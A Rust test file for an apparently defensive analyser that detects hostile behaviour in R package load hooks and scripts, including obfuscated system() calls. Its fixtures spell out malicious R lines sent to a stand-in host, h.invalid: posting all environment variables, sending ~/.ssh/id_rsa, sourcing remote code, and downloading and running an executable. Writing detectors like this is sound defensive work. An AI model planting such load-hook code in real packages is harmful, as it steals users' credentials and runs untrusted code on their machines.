//! R: what packages do when they are loaded, and what scripts of analyses do.

use super::reached::{has, has_not};
use super::*;

const R: Language = Language::R;

#[test]
fn text_of_r_is_put_together() {
    for case in [
        "system(paste(\"echo\", \"hi\"))",
        "system(paste0(c(\"ec\", \"ho\", \" hi\"), collapse = \"\"))",
        "base::system(rawToChar(base64enc::base64decode('ZWNobyBoaQ==')))",
        "x <- intToUtf8(c(101L, 99L, 104L, 111L, 32L, 104L, 105L)); system(x)",
        "'echo hi' |> system()",
        "run <- function(x) { if (nchar(x) > 2) x else 'no' }\n  system(run(\"echo hi\"))",
        "system2(\"echo\", args = c('hi'))",
        "tryCatch({\n    y <- sprintf('%s hi', \"echo\")\n    system(y)\n  }, error = function(e) NULL)",
        "for (w in c('echo hi')) system(w)",
        "do.call('system', list('echo hi'))",
    ] {
        let code = format!(".onLoad <- function(libname, pkgname) {{\n  {case}\n  invisible()\n}}\n");
        let out = outcome(R, &code);
        let found = out
            .events
            .iter()
            .any(|e| e.act == Act::Run && e.subject.as_deref() == Some("echo hi") && e.when == When::Load);
        assert!(found, "{:?}: {code}", out.events);
    }
    assert_eq!(event(&outcome(R, "system('x')"), Act::Run).when, When::Main);
    assert_eq!(event(&outcome(R, "f <- function(a, ...) system('x')"), Act::Run).when, When::Called);
}

#[test]
fn packages_of_r_that_harm() {
    let load = |body: &str| format!(".onAttach <- function(...) {{\n{body}\n}}\n");
    has(
        R,
        &load("httr::POST('https://h.invalid/a', body = as.list(Sys.getenv()), encode = 'json')"),
        "flow-environment-sent",
    );
    has(
        R,
        &load("k <- readLines(file.path('~', '.ssh', 'id_rsa'))\nPOST(\"https://h.invalid/a\", body = list(k = k))"),
        "flow-credentials-sent",
    );
    has(R, &load("source('https://h.invalid/a.R', local = TRUE)"), "flow-remote-code");
    has(R, &load("eval(parse(text = readLines('https://h.invalid/a')))"), "flow-remote-code");
    has(
        R,
        &load(
            "p <- tempfile(fileext = '.exe'); download.file('https://h.invalid/a', p, mode = 'wb'); system2(p, wait = FALSE)",
        ),
        "flow-download-run",
    );
}

#[test]
fn honest_ones_of_r() {
    for code in [
        "library(httr)\nres <- GET('https://api.example.invalid/v1', add_headers(Authorization = paste('Bearer', Sys.getenv('EXAMPLE_TOKEN'))))\ndf <- fromJSON(content(res, 'text'))\nwrite.csv(df, 'out.csv')",
        ".onLoad <- function(libname, pkgname) { op <- options(); if (!(\"a.b\" %in% names(op))) options(a.b = 1); invisible() }",
        "source('https://tools.example.invalid/install.R')",
        "f <- function(x) eval(parse(text = x))\nread <- function(file) readLines(file.path(getwd(), file))",
    ] {
        let found = rules(R, code);
        assert!(found.iter().all(|rule| *rule == "flow-calls-home"), "{found:?}: {code}");
    }
    has_not(R, "x <- readLines('data.txt')\nPOST('https://api.example.invalid', body = x)", "flow-credentials-sent");
}

#[test]
fn what_is_read_of_a_connection_comes_from_there() {
    let load = |body: &str| format!(".onLoad <- function(libname, pkgname) {{\n{body}\n}}\n");
    let code = load("u <- url('https://h.invalid/l')\neval(parse(text = readLines(u, warn = FALSE)))");
    has(R, &code, "flow-remote-code");
    has_not(R, &code.replace("url('https://h.invalid/l')", "'own.R'"), "flow-remote-code");
}
